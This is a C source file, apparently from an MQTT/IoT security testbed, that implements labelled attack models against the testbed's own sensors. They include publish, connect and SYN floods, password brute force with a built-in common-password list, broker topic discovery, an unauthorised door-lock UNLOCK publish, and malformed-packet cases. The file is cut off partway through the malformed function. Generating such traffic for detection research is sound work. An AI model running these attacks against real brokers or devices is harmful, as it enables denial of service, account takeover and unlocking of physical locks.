/*
 * tb_attack.c - the attack models. Each kind is straight-line code over
 * struct tb_io, bounded by its count and by its duration, and records what
 * it did in a tb_label as it goes.
 */
#define _POSIX_C_SOURCE 200809L
#include "tb_attack.h"

#include <errno.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>

#include "mqtt/mqtt_encode.h"
#include "tb_scenario.h"
#include "tb_sensor.h"

#define US 1000000ull

static const char *const kind_names[TB_KIND_COUNT] = {
	[TB_FLOOD_MALARIA] = "flood-malaria",
	[TB_FLOOD_FLOCK] = "flood-flock",
	[TB_CONNECT_FLOOD] = "connect-flood",
	[TB_SYN_FLOOD] = "syn-flood",
	[TB_BRUTE_FORCE] = "brute-force",
	[TB_DISCOVERY] = "discovery",
	[TB_UNAUTH_PUBLISH] = "unauth-publish",
	[TB_UNAUTH_SUBSCRIBE] = "unauth-subscribe",
	[TB_MALFORMED] = "malformed",
	[TB_SLOWITE] = "slowite",
	[TB_SLOW_PING] = "slow-ping",
	[TB_SPOOF] = "spoof",
	[TB_NO_KEY] = "no-key",
	[TB_BAD_HMAC] = "bad-hmac",
	[TB_REPLAY] = "replay",
	[TB_BIG_WILL] = "big-will",
	[TB_TAKEOVER] = "takeover",
};

const char *tb_kind_name(enum tb_kind k)
{
	return (unsigned)k < TB_KIND_COUNT ? kind_names[k] : NULL;
}

int tb_kind_from_name(const char *name)
{
	for (int k = 0; k < TB_KIND_COUNT; k++)
		if (strcmp(kind_names[k], name) == 0)
			return k;
	return -1;
}

bool tb_attack_kind_known(const char *name)
{
	return tb_kind_from_name(name) >= 0;
}

/* The default victim: the first sensor the runner starts (tb_sensor_name(1)). */
#define VICTIM_ID "esp32-kitchen"
#define VICTIM_TOPIC "sensors/kitchen/esp32-kitchen"

void tb_attack_defaults(struct tb_attack_opts *o, enum tb_kind k)
{
	memset(o, 0, sizeof(*o));
	o->kind = k;
	o->version = 4;
	o->count = 10;
	o->clients = 1;
	o->duration = 30;
	o->keepalive = 60;
	o->payload_size = 100;
	o->seed = 1;
	o->value = 38.0;
	o->stop_on_success = true;
	/* A stolen low-privilege account: the ACL lets it write public/# only. */
	snprintf(o->username, sizeof(o->username), "guest");
	snprintf(o->password, sizeof(o->password), "guest");
	snprintf(o->device, sizeof(o->device), VICTIM_ID);
	snprintf(o->topic, sizeof(o->topic), VICTIM_TOPIC);
	switch (k) {
	case TB_FLOOD_MALARIA:
		o->clients = 4;
		o->count = 250; /* per client */
		o->qos = 1;
		o->topic[0] = '\0';
		break;
	case TB_FLOOD_FLOCK:
		o->count = 2000;
		break;
	case TB_CONNECT_FLOOD:
		o->count = 300;
		o->rate = 100;
		break;
	case TB_SYN_FLOOD:
		o->count = 2000;
		o->rate = 500;
		break;
	case TB_BRUTE_FORCE:
		o->count = 0; /* the whole word list */
		o->rate = 10;
		snprintf(o->username, sizeof(o->username), "admin");
		o->password[0] = '\0';
		break;
	case TB_DISCOVERY:
		o->duration = 5; /* listening time */
		break;
	case TB_UNAUTH_PUBLISH:
		o->count = 5;
		o->qos = 1;
		snprintf(o->topic, sizeof(o->topic), "zigbee2mqtt/front_door_lock/set");
		break;
	case TB_UNAUTH_SUBSCRIBE:
		o->count = 1;
		o->duration = 3;
		snprintf(o->topic, sizeof(o->topic), "zigbee2mqtt/#");
		break;
	case TB_MALFORMED:
		o->count = 1; /* rounds of the whole case list */
		break;
	case TB_SLOWITE:
		o->count = 1000;
		o->keepalive = 65535;
		o->duration = 30; /* hold time */
		break;
	case TB_SLOW_PING:
		o->count = 100;
		o->keepalive = 20;
		o->ping_every = 15;
		o->duration = 40;
		break;
	case TB_SPOOF:
	case TB_NO_KEY:
	case TB_BAD_HMAC:
		o->count = 5;
		o->rate = 1;
		break;
	case TB_REPLAY:
		o->count = 3;
		o->rate = 1;
		o->duration = 30;
		/* Stolen read-only dashboard credentials to sniff a reading. */
		snprintf(o->username, sizeof(o->username), "dashboard");
		snprintf(o->password, sizeof(o->password), "dash-pass");
		break;
	case TB_BIG_WILL:
		o->count = 3;
		o->payload_size = 65535; /* the most a will payload can hold (2-byte length) */
		snprintf(o->topic, sizeof(o->topic), VICTIM_TOPIC "/status");
		break;
	case TB_TAKEOVER:
		o->count = 5; /* forged readings while holding the id */
		o->rate = 0.5;
		o->duration = 15;
		snprintf(o->client_id, sizeof(o->client_id), VICTIM_ID);
		break;
	case TB_KIND_COUNT:
		break;
	}
}

void tb_attack_usage(FILE *f)
{
	fprintf(f,
		"attack options (each kind has its own defaults, docs/TESTBED.md):\n"
		"  --count N          messages, tries or connections\n"
		"  --clients N        parallel clients (flood-malaria)\n"
		"  --rate R           per second (0: as fast as possible)\n"
		"  --duration S       hard time limit; hold/listen time\n"
		"  --keepalive S      CONNECT keepalive\n"
		"  --ping-every S     slow-ping: seconds between PINGREQs\n"
		"  --payload-size N   flood payload / will payload bytes\n"
		"  --qos Q            0, 1 or 2\n"
		"  --mqtt-version V   3, 4 or 5\n"
		"  --client-id ID     client id to use (takeover, spoof)\n"
		"  --device ID        victim device (spoof, no-key, bad-hmac, replay)\n"
		"  --topic T          topic or filter attacked\n"
		"  --username U       --password P   credentials to use\n"
		"  --wordlist FILE    brute-force passwords, one per line\n"
		"  --no-stop          brute-force: go on after a success\n"
		"  --shared-key K     spoof: add the shared key field\n"
		"  --value V          spoof/no-key/bad-hmac: temperature to report\n"
		"  --seed X           random seed\n");
}

static int parse_num(const char *s, double lo, double hi, double *out)
{
	char *end;
	errno = 0;
	double v = strtod(s, &end);
	if (errno || end == s || *end || !(v >= lo && v <= hi))
		return -1;
	*out = v;
	return 0;
}

int tb_attack_parse(int argc, char **argv, struct tb_attack_opts *o, FILE *err)
{
	if (argc < 1 || tb_kind_from_name(argv[0]) < 0) {
		fprintf(err, "unknown attack kind '%s'\n", argc ? argv[0] : "");
		return -1;
	}
	tb_attack_defaults(o, (enum tb_kind)tb_kind_from_name(argv[0]));
	static const struct {
		const char *name;
		char type; /* n: number, s: string, f: flag */
		double lo, hi;
	} opt[] = {
		{ "--count", 'n', 1, 1e6 }, { "--clients", 'n', 1, 256 },
		{ "--rate", 'n', 0, 1e6 }, { "--duration", 'n', 0, 86400 },
		{ "--keepalive", 'n', 0, 65535 }, { "--ping-every", 'n', 0.1, 65535 },
		{ "--payload-size", 'n', 0, 16 * 1024 * 1024 }, { "--qos", 'n', 0, 2 },
		{ "--mqtt-version", 'n', 3, 5 }, { "--value", 'n', -1e6, 1e6 },
		{ "--seed", 'n', 0, 1e18 },
		{ "--client-id", 's', 0, 0 }, { "--device", 's', 0, 0 },
		{ "--topic", 's', 0, 0 }, { "--username", 's', 0, 0 },
		{ "--password", 's', 0, 0 }, { "--wordlist", 's', 0, 0 },
		{ "--shared-key", 's', 0, 0 }, { "--no-stop", 'f', 0, 0 },
	};
	bool set_topic = false, set_device = false, set_cid = false;
	for (int i = 1; i < argc; i++) {
		size_t k = 0;
		while (k < sizeof(opt) / sizeof(opt[0]) && strcmp(opt[k].name, argv[i]) != 0)
			k++;
		if (k == sizeof(opt) / sizeof(opt[0])) {
			fprintf(err, "%s: argument %d: unknown option '%s'\n", argv[0], i, argv[i]);
			return -1;
		}
		const char *name = opt[k].name;
		if (opt[k].type == 'f') {
			o->stop_on_success = false;
			continue;
		}
		if (i + 1 >= argc) {
			fprintf(err, "%s: %s needs a value\n", argv[0], name);
			return -1;
		}
		const char *v = argv[++i];
		if (opt[k].type == 'n') {
			double x;
			if (parse_num(v, opt[k].lo, opt[k].hi, &x) != 0) {
				fprintf(err, "%s: %s: '%s' is not a number in [%g, %g]\n",
					argv[0], name, v, opt[k].lo, opt[k].hi);
				return -1;
			}
			if (!strcmp(name, "--count")) o->count = (unsigned)x;
			else if (!strcmp(name, "--clients")) o->clients = (unsigned)x;
			else if (!strcmp(name, "--rate")) o->rate = x;
			else if (!strcmp(name, "--duration")) o->duration = x;
			else if (!strcmp(name, "--keepalive")) o->keepalive = (unsigned)x;
			else if (!strcmp(name, "--ping-every")) o->ping_every = x;
			else if (!strcmp(name, "--payload-size")) o->payload_size = (unsigned)x;
			else if (!strcmp(name, "--qos")) o->qos = (uint8_t)x;
			else if (!strcmp(name, "--mqtt-version")) o->version = (uint8_t)x;
			else if (!strcmp(name, "--value")) o->value = x;
			else if (!strcmp(name, "--seed")) o->seed = (uint64_t)x;
			continue;
		}
		char *dst = NULL;
		size_t cap = 0;
#define S(opt_name, field) \
	if (!strcmp(name, opt_name)) { dst = o->field; cap = sizeof(o->field); }
		S("--client-id", client_id) S("--device", device) S("--topic", topic)
		S("--username", username) S("--password", password)
		S("--wordlist", wordlist) S("--shared-key", shared_key)
#undef S
		if (strlen(v) >= cap) {
			fprintf(err, "%s: %s: value longer than %zu bytes\n", argv[0], name, cap - 1);
			return -1;
		}
		memcpy(dst, v, strlen(v) + 1);
		set_topic |= dst == o->topic;
		set_device |= dst == o->device;
		set_cid |= dst == o->client_id;
	}
	/* A takeover's victim is the client id it steals. */
	if (o->kind == TB_TAKEOVER && set_cid && !set_device) {
		snprintf(o->device, sizeof(o->device), "%s", o->client_id);
		set_device = true;
	}
	if (o->kind == TB_TAKEOVER && set_device && !set_cid)
		snprintf(o->client_id, sizeof(o->client_id), "%s", o->device);
	/* A victim named without a topic: the testbed's topic for that sensor. */
	bool victim_topic = o->kind == TB_FLOOD_FLOCK || o->kind == TB_SPOOF ||
			    o->kind == TB_NO_KEY || o->kind == TB_BAD_HMAC ||
			    o->kind == TB_REPLAY || o->kind == TB_TAKEOVER ||
			    o->kind == TB_BIG_WILL;
	if (victim_topic && set_device && !set_topic) {
		char id[96], topic[256];
		unsigned i;
		for (i = 1; i <= 512; i++) {
			tb_sensor_name(i, id, sizeof(id), NULL, 0, topic, sizeof(topic));
			if (strcmp(id, o->device) == 0)
				break;
		}
		if (i > 512) {
			fprintf(err, "%s: --device %s is not a testbed sensor name; give --topic too\n",
				argv[0], o->device);
			return -1;
		}
		if (snprintf(o->topic, sizeof(o->topic), "%s%s", topic,
			     o->kind == TB_BIG_WILL ? "/status" : "") >= (int)sizeof(o->topic)) {
			fprintf(err, "%s: the topic of %s is too long\n", argv[0], o->device);
			return -1;
		}
	}
	return 0;
}

/* ---- helpers over the transport ---- */

struct run {
	const struct tb_attack_opts *o;
	struct tb_io *io;
	struct tb_label *l;
	FILE *log;
	uint64_t t0, deadline;
	struct tb_rng rng;
	uint8_t *buf;
	size_t cap;
	bool started;
};

static bool expired(struct run *r)
{
	if (r->io->stop && *r->io->stop)
		r->deadline = r->io->now(r->io->ud);
	return r->io->now(r->io->ud) >= r->deadline;
}

static void mark(struct run *r)
{
	uint64_t t = r->io->now(r->io->ud);
	if (!r->started) {
		r->l->start_us = t;
		r->started = true;
	}
	r->l->end_us = t;
}

/* Paces the i-th event at rate per second from t0 (rate 0: no pacing). */
static void pace(struct run *r, uint64_t i, double rate)
{
	if (rate <= 0)
		return;
	uint64_t at = r->t0 + (uint64_t)((double)i * 1e6 / rate);
	if (at > r->deadline)
		at = r->deadline;
	if (at > r->io->now(r->io->ud))
		r->io->sleep_until(r->io->ud, at);
}

static struct mqtt_msg msg(const struct run *r, uint8_t type)
{
	struct mqtt_msg m;
	memset(&m, 0, sizeof(m));
	m.type = type;
	m.version = r->o->version;
	return m;
}

static int send_msg(struct run *r, int c, const struct mqtt_msg *m,
		    const struct mqtt_enc_hdr *hdr)
{
	size_t n = 0;
	int e = mqtt_encode(m, hdr, r->buf, r->cap, &n);
	if (e == MQTT_EENC_SPACE) {
		uint8_t *nb = realloc(r->buf, n);
		if (!nb)
			return -1;
		r->buf = nb;
		r->cap = n;
		e = mqtt_encode(m, hdr, r->buf, r->cap, &n);
	}
	if (e != 0)
		return -1;
	if (r->io->send(r->io->ud, c, r->buf, n) != 0)
		return -1;
	mark(r);
	if (m->type != MQTT_CONNECT)
		r->l->messages_sent++;
	return 0;
}

static int send_raw(struct run *r, int c, const uint8_t *p, size_t n)
{
	if (r->io->send(r->io->ud, c, p, n) != 0)
		return -1;
	mark(r);
	r->l->messages_sent++;
	return 0;
}

static int open_conn(struct run *r)
{
	uint16_t port = 0;
	int c = r->io->open(r->io->ud, &port);
	if (c < 0)
		return -1;
	tb_label_port(r->l, port);
	r->l->connections++;
	mark(r);
	return c;
}

/*
 * Waits for a message of the given type on c, dropping others (broker
 * PUBLISHes, for example). Returns 1 with *m filled, 0 on timeout, -1
 * when the broker closed the connection.
 */
static int await(struct run *r, int c, uint8_t type, uint64_t timeout_us,
		 struct mqtt_msg *m)
{
	uint64_t until = r->io->now(r->io->ud) + timeout_us;
	for (;;) {
		uint64_t now = r->io->now(r->io->ud);
		if (now >= until)
			return 0;
		int rc = r->io->recv(r->io->ud, c, until - now, m);
		if (rc <= 0)
			return rc;
		if (m->type == type)
			return 1;
	}
}

struct conn_args {
	const char *client_id;
	const char *username, *password; /* NULL: none */
	unsigned keepalive;
	bool clean;
	/* will */
	const char *will_topic;
	const uint8_t *will_payload;
	size_t will_len;
	const struct mqtt_enc_hdr *hdr;
};

/*
 * Opens a connection and sends CONNECT; with want_ack, waits for CONNACK
 * and stores its code in *code (-1: none arrived). Returns the handle or -1.
 */
static int mqtt_connect(struct run *r, const struct conn_args *a, bool want_ack,
			int *code)
{
	int c = open_conn(r);
	if (c < 0)
		return -1;
	struct mqtt_msg m = msg(r, MQTT_CONNECT);
	m.connect_flags = a->clean ? 0x02 : 0;
	m.keepalive = (uint16_t)a->keepalive;
	m.client_id = mqtt_str(a->client_id);
	if (a->username) {
		m.has_username = true;
		m.username = mqtt_str(a->username);
	}
	if (a->password) {
		m.has_password = true;
		m.password = mqtt_str(a->password);
	}
	if (a->will_topic) {
		m.has_will = true;
		m.will_topic = mqtt_str(a->will_topic);
		m.will_payload.p = a->will_payload;
		m.will_payload.len = a->will_len;
	}
	tb_label_client(r->l, a->client_id);
	if (send_msg(r, c, &m, a->hdr) != 0) {
		r->io->close(r->io->ud, c);
		return -1;
	}
	if (code)
		*code = -1;
	if (want_ack) {
		struct mqtt_msg ack;
		int rc = await(r, c, MQTT_CONNACK, 3 * US, &ack);
		if (rc == 1 && code)
			*code = ack.return_code;
		if (rc < 0) {
			r->io->close(r->io->ud, c);
			return -1;
		}
	}
	return c;
}

static void disconnect(struct run *r, int c)
{
	struct mqtt_msg d = msg(r, MQTT_DISCONNECT);
	send_msg(r, c, &d, NULL);
	r->io->close(r->io->ud, c);
	mark(r);
}

static void rand_hex(struct run *r, char *out, size_t n)
{
	static const char dig[] = "0123456789abcdef";
	for (size_t i = 0; i < n; i++)
		out[i] = dig[tb_rng_next(&r->rng) & 15];
	out[n] = '\0';
}

static bool connack_ok(int code)
{
	return code == 0;
}

static void detail(struct run *r, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void detail(struct run *r, const char *fmt, ...)
{
	size_t used = strlen(r->l->detail);
	if (used && used + 1 < sizeof(r->l->detail))
		r->l->detail[used++] = ',';
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(r->l->detail + used, sizeof(r->l->detail) - used, fmt, ap);
	va_end(ap);
}

static void logf_(struct run *r, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void logf_(struct run *r, const char *fmt, ...)
{
	if (!r->log)
		return;
	va_list ap;
	va_start(ap, fmt);
	fprintf(r->log, "%s: ", tb_kind_name(r->o->kind));
	vfprintf(r->log, fmt, ap);
	fputc('\n', r->log);
	va_end(ap);
}

static struct conn_args std_args(const struct run *r, const char *cid)
{
	struct conn_args a = { 0 };
	a.client_id = cid;
	a.username = r->o->username[0] ? r->o->username : NULL;
	a.password = r->o->password[0] ? r->o->password : NULL;
	a.keepalive = r->o->keepalive;
	a.clean = true;
	return a;
}

/*
 * Connects with the attack's credentials and the given client id; returns
 * the handle once CONNACK accepted it, or -1 with the reason in the label.
 */
static int connect_accepted(struct run *r, const char *cid)
{
	struct conn_args a = std_args(r, cid);
	int code;
	int c = mqtt_connect(r, &a, true, &code);
	if (c < 0 || !connack_ok(code)) {
		detail(r, "\"error\":\"connect refused\",\"connack\":%d", code);
		if (c >= 0)
			r->io->close(r->io->ud, c);
		return -1;
	}
	return c;
}

enum { PUB_SEND_FAILED = -2, PUB_CLOSED = -1, PUB_NO_ACK = 0, PUB_ACKED = 1 };

/*
 * Publishes p[0..n) on topic at qos (packet id mid) and completes the
 * broker's side of the exchange: PUBACK for QoS 1; PUBREC, PUBREL, PUBCOMP
 * for QoS 2. Returns PUB_SEND_FAILED when the PUBLISH could not be sent,
 * otherwise PUB_ACKED (always for QoS 0), PUB_NO_ACK after 2 s without an
 * answer, or PUB_CLOSED. *reason (may be NULL) gets the ack's v5 reason
 * code, 0 when it has none.
 */
static int publish_acked(struct run *r, int c, const char *topic, const void *p,
			 size_t n, uint8_t qos, uint16_t mid, uint8_t *reason)
{
	struct mqtt_msg m = msg(r, MQTT_PUBLISH);
	m.qos = qos;
	m.msg_id = mid;
	m.topic = mqtt_str(topic);
	m.payload.p = p;
	m.payload.len = n;
	if (reason)
		*reason = 0;
	if (send_msg(r, c, &m, NULL) != 0)
		return PUB_SEND_FAILED;
	if (!qos)
		return PUB_ACKED;
	struct mqtt_msg a;
	int rc = await(r, c, qos == 1 ? MQTT_PUBACK : MQTT_PUBREC, 2 * US, &a);
	if (rc == 1 && reason && a.has_reason_code)
		*reason = a.reason_code;
	if (rc == 1 && qos == 2) {
		struct mqtt_msg rel = msg(r, MQTT_PUBREL);
		rel.msg_id = mid;
		send_msg(r, c, &rel, NULL);
		await(r, c, MQTT_PUBCOMP, 2 * US, &a);
	}
	return rc;
}

/* ---- the kinds ---- */

static int flood_malaria(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	int c[256];
	char cid[256][40];
	unsigned n = 0;
	for (unsigned i = 0; i < o->clients && !expired(r); i++) {
		/* mqtt-malaria names its clients after host, pid and index. */
		snprintf(cid[n], sizeof(cid[n]), "mqtt-malaria-attacker-%u-%u",
			 (unsigned)(r->o->seed % 30000 + 1000), i);
		struct conn_args a = std_args(r, cid[n]);
		int code;
		c[n] = mqtt_connect(r, &a, true, &code);
		if (c[n] < 0)
			continue;
		if (!connack_ok(code)) {
			logf_(r, "client %u refused (CONNACK %d)", i, code);
			r->io->close(r->io->ud, c[n]);
			continue;
		}
		n++;
	}
	if (!n) {
		detail(r, "\"error\":\"no client connected\"");
		return -1;
	}
	char payload[4097];
	size_t plen = o->payload_size > 4096 ? 4096 : o->payload_size;
	uint64_t sent = 0, acked = 0;
	bool alive[256];
	for (unsigned i = 0; i < n; i++)
		alive[i] = true;
	for (unsigned seq = 1; seq <= o->count && !expired(r); seq++) {
		bool any = false;
		for (unsigned i = 0; i < n; i++) {
			if (!alive[i])
				continue;
			pace(r, sent, o->rate);
			char topic[160];
			snprintf(topic, sizeof(topic), "mqtt-malaria/%s/data/%u/%u", cid[i],
				 seq, o->count);
			rand_hex(r, payload, plen);
			int rc = publish_acked(r, c[i], topic, payload, plen, o->qos,
					       (uint16_t)(seq % 65535 + 1), NULL);
			if (rc == PUB_SEND_FAILED) {
				alive[i] = false;
				continue;
			}
			sent++;
			any = true;
			if (rc == PUB_CLOSED)
				alive[i] = false;
			else if (rc == PUB_ACKED && o->qos)
				acked++;
		}
		if (!any)
			break;
	}
	for (unsigned i = 0; i < n; i++)
		if (alive[i])
			disconnect(r, c[i]);
		else
			r->io->close(r->io->ud, c[i]);
	snprintf(r->l->topic, sizeof(r->l->topic), "mqtt-malaria/#");
	detail(r, "\"published\":%llu,\"acknowledged\":%llu,\"clients\":%u",
	       (unsigned long long)sent, (unsigned long long)acked, n);
	logf_(r, "%llu publishes from %u clients", (unsigned long long)sent, n);
	return 0;
}

/* A reading shaped like the victim's, at the given temperature. */
static size_t sensor_payload(struct run *r, double temp, enum tb_sec mode,
			     uint64_t ctr, char *out, size_t cap)
{
	struct tb_reading rd = { r->o->device, temp, 40 + (double)(tb_rng_next(&r->rng) % 8),
				 false, ctr, r->io->now(r->io->ud) / US };
	struct tb_sec_cfg s;
	memset(&s, 0, sizeof(s));
	s.mode = mode;
	if (mode == TB_SEC_KEY)
		snprintf(s.shared_key, sizeof(s.shared_key), "%s", r->o->shared_key);
	if (mode == TB_SEC_HMAC) {
		/* Not the device's key: the attacker does not have it. */
		for (size_t i = 0; i < 32; i++)
			s.key[i] = (uint8_t)tb_rng_next(&r->rng);
		s.key_len = 32;
	}
	return tb_payload_format(&rd, &s, out, cap);
}

static int flood_flock(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	char cid[40];
	snprintf(cid, sizeof(cid), "iotflock-%llu", (unsigned long long)(o->seed % 100000));
	int c = connect_accepted(r, cid);
	if (c < 0)
		return -1;
	uint64_t sent = 0;
	for (unsigned i = 0; i < o->count && !expired(r); i++) {
		pace(r, i, o->rate);
		char pl[256];
		/* IoT-Flock replays the victim's value shape with small jitter. */
		double t = 21 + (double)(tb_rng_next(&r->rng) % 5);
		size_t n = sensor_payload(r, t, TB_SEC_NONE, 0, pl, sizeof(pl));
		int rc = publish_acked(r, c, o->topic, pl, n, o->qos,
				       (uint16_t)(i % 65535 + 1), NULL);
		if (rc == PUB_SEND_FAILED)
			break;
		sent++;
		if (rc == PUB_CLOSED)
			break;
	}
	disconnect(r, c);
	snprintf(r->l->topic, sizeof(r->l->topic), "%s", o->topic);
	snprintf(r->l->device, sizeof(r->l->device), "%s", o->device);
	detail(r, "\"published\":%llu", (unsigned long long)sent);
	logf_(r, "%llu publishes on %s", (unsigned long long)sent, o->topic);
	return 0;
}

static int connect_flood(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	unsigned ok = 0, refused = 0, failed = 0;
	for (unsigned i = 0; i < o->count && !expired(r); i++) {
		pace(r, i, o->rate);
		char cid[40];
		snprintf(cid, sizeof(cid), "flood-%08llx",
			 (unsigned long long)(tb_rng_next(&r->rng) & 0xffffffffu));
		struct conn_args a = std_args(r, cid);
		int code;
		int c = mqtt_connect(r, &a, true, &code);
		if (c < 0) {
			failed++;
			continue;
		}
		if (connack_ok(code))
			ok++;
		else
			refused++;
		r->io->close(r->io->ud, c); /* no DISCONNECT: the flood just drops */
	}
	detail(r, "\"accepted\":%u,\"refused\":%u,\"failed\":%u", ok, refused, failed);
	logf_(r, "%u connections accepted, %u refused, %u failed", ok, refused, failed);
	return 0;
}

static int syn_flood(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	uint64_t sent = 0;
	uint16_t base = (uint16_t)(1024 + tb_rng_next(&r->rng) % 30000);
	for (unsigned i = 0; i < o->count && !expired(r); i++) {
		pace(r, i, o->rate);
		/* hping3 -S increments the source port per packet. */
		uint16_t port = (uint16_t)(base + i % 30000);
		if (r->io->syn(r->io->ud, port, (uint32_t)tb_rng_next(&r->rng)) != 0) {
			if (!sent) {
				detail(r, "\"error\":\"raw sockets not permitted\"");
				logf_(r, "raw sockets not permitted (needs CAP_NET_RAW)");
				return -1;
			}
			break;
		}
		tb_label_port(r->l, port);
		mark(r);
		sent++;
	}
	r->l->packets_sent = sent;
	detail(r, "\"syn_sent\":%llu", (unsigned long long)sent);
	logf_(r, "%llu SYNs", (unsigned long long)sent);
	return 0;
}

/* Common passwords, as in the small lists brute-forcers ship with. */
static const char *const builtin_words[] = {
	"123456", "password", "admin", "12345678", "qwerty", "123456789",
	"mosquitto", "mqtt", "raspberry", "letmein", "changeme", "root",
	"toor", "iot", "default", "guest", "welcome", "admin123", "passw0rd",
	"P@ssw0rd",
};

static int brute_force(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	FILE *wl = NULL;
	if (o->wordlist[0]) {
		wl = fopen(o->wordlist, "r");
		if (!wl) {
			detail(r, "\"error\":\"cannot open word list\"");
			logf_(r, "%s: cannot open word list", o->wordlist);
			return -1;
		}
	}
	unsigned tries = 0, refused = 0, noack = 0;
	bool found = false;
	size_t wi = 0;
	char word[256];
	for (;;) {
		if ((o->count && tries >= o->count) || expired(r))
			break;
		if (wl) {
			if (!fgets(word, sizeof(word), wl))
				break;
			word[strcspn(word, "\r\n")] = '\0';
			if (!word[0])
				continue;
		} else {
			if (wi == sizeof(builtin_words) / sizeof(builtin_words[0]))
				break;
			snprintf(word, sizeof(word), "%s", builtin_words[wi++]);
		}
		pace(r, tries, o->rate);
		char cid[40];
		snprintf(cid, sizeof(cid), "mqtt-pwn-%u", tries);
		struct conn_args a = std_args(r, cid);
		a.password = word;
		int code;
		int c = mqtt_connect(r, &a, true, &code);
		tries++;
		if (c < 0)
			continue;
		if (code == 0) {
			found = true;
			disconnect(r, c);
			logf_(r, "password found after %u tries", tries);
			if (o->stop_on_success)
				break;
			continue;
		}
		if (code < 0)
			noack++;
		else
			refused++;
		r->io->close(r->io->ud, c);
	}
	if (wl)
		fclose(wl);
	detail(r, "\"username\":\"%s\",\"tries\":%u,\"refused\":%u,\"no_answer\":%u,\"found\":%s",
	       o->username, tries, refused, noack, found ? "true" : "false");
	logf_(r, "%u tries, %u refused", tries, refused);
	return 0;
}

/* Subscribes to filters[0..n) in one SUBSCRIBE; returns granted count or -1. */
static int subscribe(struct run *r, int c, const char *const *filters, unsigned n,
		     uint16_t mid, unsigned *denied)
{
	struct mqtt_topic t[16];
	if (n > 16)
		n = 16;
	for (unsigned i = 0; i < n; i++) {
		t[i].name = mqtt_str(filters[i]);
		t[i].opts = 0;
	}
	struct mqtt_msg s = msg(r, MQTT_SUBSCRIBE);
	s.msg_id = mid;
	s.topics = t;
	s.n_topics = n;
	if (send_msg(r, c, &s, NULL) != 0)
		return -1;
	struct mqtt_msg a;
	if (await(r, c, MQTT_SUBACK, 3 * US, &a) != 1)
		return -1;
	int granted = 0;
	for (size_t i = 0; i < a.codes.len; i++) {
		if (a.codes.p[i] < 0x80)
			granted++;
		else if (denied)
			(*denied)++;
	}
	return granted;
}

/* Drains incoming messages on c until deadline; returns PUBLISHes seen. */
static unsigned listen_until(struct run *r, int c, uint64_t until)
{
	unsigned n = 0;
	for (;;) {
		uint64_t now = r->io->now(r->io->ud);
		if (now >= until)
			break;
		struct mqtt_msg m;
		int rc = r->io->recv(r->io->ud, c, until - now, &m);
		if (rc < 0)
			break;
		if (rc == 1 && m.type == MQTT_PUBLISH) {
			n++;
			if (m.qos == 1) {
				struct mqtt_msg a = msg(r, MQTT_PUBACK);
				a.msg_id = m.msg_id;
				send_msg(r, c, &a, NULL);
			}
		}
	}
	return n;
}

static int discovery(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	int c = connect_accepted(r, "mqtt-pwn-discovery");
	if (c < 0)
		return -1;
	static const char *const all[] = { "#", "$SYS/#" };
	static const char *const info[] = {
		"$SYS/broker/version", "$SYS/broker/uptime",
		"$SYS/broker/clients/connected", "$SYS/broker/clients/total",
		"$SYS/broker/messages/received", "$SYS/broker/subscriptions/count",
	};
	unsigned denied = 0;
	int g1 = subscribe(r, c, all, 2, 1, &denied);
	int g2 = subscribe(r, c, info, 6, 2, &denied);
	uint64_t until = r->io->now(r->io->ud) + (uint64_t)(o->duration * 1e6);
	if (until > r->deadline)
		until = r->deadline;
	unsigned got = listen_until(r, c, until);
	disconnect(r, c);
	snprintf(r->l->topic, sizeof(r->l->topic), "#");
	detail(r, "\"granted\":%d,\"denied\":%u,\"received\":%u",
	       (g1 > 0 ? g1 : 0) + (g2 > 0 ? g2 : 0), denied, got);
	logf_(r, "subscriptions denied %u, %u messages received", denied, got);
	return 0;
}

static int unauth_publish(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	char cid[96];
	snprintf(cid, sizeof(cid), "%s", o->client_id[0] ? o->client_id : "mqtt-explorer-4f1c");
	int c = connect_accepted(r, cid);
	if (c < 0)
		return -1;
	unsigned sent = 0, denied = 0;
	for (unsigned i = 0; i < o->count && !expired(r); i++) {
		pace(r, i, o->rate);
		static const char unlock[] = "{\"state\":\"UNLOCK\"}";
		uint8_t reason;
		int rc = publish_acked(r, c, o->topic, unlock, sizeof(unlock) - 1, o->qos,
				       (uint16_t)(i + 1), &reason);
		if (rc == PUB_SEND_FAILED)
			break;
		sent++;
		if (rc == PUB_ACKED && reason >= 0x80)
			denied++;
	}
	disconnect(r, c);
	snprintf(r->l->topic, sizeof(r->l->topic), "%s", o->topic);
	detail(r, "\"published\":%u,\"denied_by_broker\":%u", sent, denied);
	return 0;
}

static int unauth_subscribe(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	int c = connect_accepted(r, "mqtt-explorer-7a2d");
	if (c < 0)
		return -1;
	const char *f[1] = { o->topic };
	unsigned denied = 0, got = 0;
	for (unsigned i = 0; i < o->count && !expired(r); i++)
		subscribe(r, c, f, 1, (uint16_t)(i + 1), &denied);
	uint64_t until = r->io->now(r->io->ud) + (uint64_t)(o->duration * 1e6);
	got = listen_until(r, c, until < r->deadline ? until : r->deadline);
	disconnect(r, c);
	snprintf(r->l->topic, sizeof(r->l->topic), "%s", o->topic);
	detail(r, "\"denied_by_broker\":%u,\"received\":%u", denied, got);
	return 0;
}

/*
 * MQTTSA's malformed-data cases. Each runs on its own connection, as a
 * broker drops the connection on the first protocol error.
 */
static int malformed(struct run *r)
{
	const struct tb_attack_opts *o = r->o;
	char long_id[681];
	memset(long_id, 'A', 680);
	long_id[680] = '\0';
	/* The last is one element: split so \x28 does not swallow "bad", and
	 * parenthesised for clang's -Wstring-concatenation. */
	static const char *const bad_topics[] = { "$", "///////", "/#/#/#", "+/+", ("\xc3\x28" "bad") };
	unsigned cases = 0;
	for (unsigned round = 0; round < o->count && !expired(r); round++) {
		/* CONNECT-level cases: odd client ids and keepalive extremes. */
		static const struct {
			const char *id;
			unsigned keepalive;
			bool clean;
		} cc[] = {
			{ "", 60, false }, { "$", 60, true }, { NULL, 60, true },
			{ "mqttsa-ka0", 0, true }, { "mqttsa-ka65535", 65535, true },
		};
